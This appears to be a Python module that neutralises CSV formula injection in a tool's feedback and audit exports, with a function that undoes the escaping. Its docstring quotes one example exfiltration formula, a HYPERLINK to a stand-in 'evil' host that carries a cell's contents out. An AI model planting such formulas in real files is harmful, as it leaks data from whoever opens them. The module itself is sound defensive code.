"""CSV cells that are safe to open in a spreadsheet, and read back as they were.

Exports (`candor feedback export`, `candor audit answers --export`) carry text that anyone in a
workspace can write: a question. A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
is a formula to Excel, LibreOffice and Google Sheets (`=HYPERLINK("https://evil/?"&A1, "click")`).
OWASP's advice is followed: such a cell gets a leading `'`, which spreadsheets show as text and do
not display. `restore` undoes it, so that a label file round-trips exactly.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def defuse(cell: str) -> str:
    """`cell`, with a `'` in front when a spreadsheet would read it as a formula (or when it already
    starts with quotes before such a character, so that `restore` knows the quote is ours)."""
    return QUOTE + cell if _formula_like(cell) else cell


def restore(cell: str) -> str:
    """The cell as it was before `defuse`."""
    return cell[1:] if cell.startswith(QUOTE) and _formula_like(cell[1:]) else cell


def _formula_like(cell: str) -> bool:
    return cell.lstrip(QUOTE).startswith(FORMULA_STARTS)
